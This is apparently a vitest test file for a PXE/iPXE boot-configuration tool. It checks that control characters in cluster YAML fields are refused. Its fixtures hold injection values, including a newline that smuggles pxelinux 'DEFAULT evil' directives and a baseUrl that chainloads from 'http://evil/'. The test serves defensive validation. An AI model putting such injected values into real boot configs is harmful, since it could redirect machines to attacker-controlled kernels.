// Cluster file strings end up in line-based files (pxelinux configs, iPXE scripts, kexec.sh) and on
// the kernel command line: control characters in them are refused, with file, line and key.
import { existsSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { run, tempDir } from "./helpers.js";
import { synthBzImage } from "./synth.js";

const t = tempDir();
afterAll(() => t.cleanup());
writeFileSync(join(t.dir, "bz"), synthBzImage({ xloadflags: 0x7f }));

describe("control characters in cluster files", () => {
  it("a newline in a cmdline entry cannot add pxelinux directives", async () => {
    const file = join(t.dir, "nl.yaml");
    writeFileSync(
      file,
      [
        "profiles:",
        "  x86: {arch: x86_64, kernel: bz, delivery: pxe}",
        "nodes:",
        '  - {name: n1, mac: "52:54:00:00:00:09", profiles: [x86],',
        '     cmdline: ["a\\nDEFAULT evil\\nLABEL evil", "b\\u0000c", "quiet"]}',
        "",
      ].join("\n"),
    );
    const c = await run(["check", file]);
    expect(c.code).toBe(1);
    expect(c.stderr).toContain(
      `${file}:5: nodes.0.cmdline.0: control character "\\n" in "a\\nDEFAULT evil\\nLABEL evil"`,
    );
    expect(c.stderr).toContain(`${file}:5: nodes.0.cmdline.1: control character "\\u0000" in "b\\u0000c"`);
    const out = join(t.dir, "pxe");
    expect((await run(["pxe", "-c", file, "-o", out])).code).toBe(1);
    expect(existsSync(out)).toBe(false);
  });

  it("in a baseUrl, a kexec dir, a profile name; a one-string cmdline still splits on newlines", async () => {
    const file = join(t.dir, "more.yaml");
    writeFileSync(
      file,
      [
        "profiles:",
        '  "x\\nrm": {kernel: bz}',
        '  ok: {kernel: bz, cmdline: "console=ttyS0\\nquiet"}',
        "nodes:",
        '  - {name: n1, profiles: [ok], baseUrl: "http://h/\\nchain http://evil/", kexec: {dir: "/boot\\r"}}',
        "",
      ].join("\n"),
    );
    const r = await run(["check", file]);
    expect(r.code).toBe(1);
    expect(r.stderr.split("\n").filter((l) => l.includes("control character"))).toEqual([
      expect.stringMatching(/more\.yaml:\d+: profiles: control character "\\n" in "x\\nrm"/),
      expect.stringMatching(/more\.yaml:5: nodes\.0\.kexec\.dir: control character "\\r"/),
      expect.stringMatching(/more\.yaml:5: nodes\.0\.baseUrl: control character "\\n"/),
    ]);
    expect(r.stderr).not.toMatch(/profiles\.ok\.cmdline/);
  });
});
